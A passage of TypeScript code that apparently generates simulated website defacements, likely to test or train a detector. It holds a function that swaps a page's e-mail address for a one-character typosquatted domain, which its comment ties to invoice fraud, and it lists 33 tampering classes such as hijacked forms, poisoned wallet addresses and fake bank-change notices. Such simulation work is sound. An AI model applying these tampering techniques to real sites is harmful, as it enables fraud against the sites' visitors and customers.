  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.phone)}: ${esc(n.shown)}`, slotAt(page.spots, "bottom")))
})

// Typosquatted mail domains (the address on a hacked page changed to the same mailbox on a domain one character away, registered by the intruder for invoice fraud): the e-mail replaced everywhere, text and mailto: links.
const emailTyposquat = fresh33("email-typosquat-domain-everywhere", (page, rng) => {
  const [local] = page.ids.email.split("@") as [string]
  const label = page.site.domain.split(".")[0] ?? "site"
  const next = `${local}@${typoLabel(rng, label)}${page.site.domain.slice(label.length)}`
  const out = replaceEverywhere(page, changing([[page.ids.email, next]]))
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.phone.intl], `${esc(page.site.words.email)}: ${esc(next)}`, slotAt(page.spots, "bottom")))
})

/** Every fresh33 defacement class, in a fixed order. */
export const fresh33Defacements: ReadonlyArray<ChangeClass> = [
  contentArea, footerSigned, logoSwapped, sidebarWidget, ransomNote, japaneseKeyword, cssOverlay, alertDialog, propagandaVideo, paragraphSabotage, leakClaim,
  scriptRehosted, formCollector, formsHijacked, metaRefresh, menuSpamItem, footerLinks, downloadsSwapped, canonicalHijack, clickOverlay, dynamicLoader, linksToClone,
  phoneOnePlace, mailtoBehindText, accountSameBank, walletPoisoned, handleLookalike, socialLookalike, bankChangeNotice, messengerSupport, cryptoGiveaway, supportLine, emailTyposquat
]
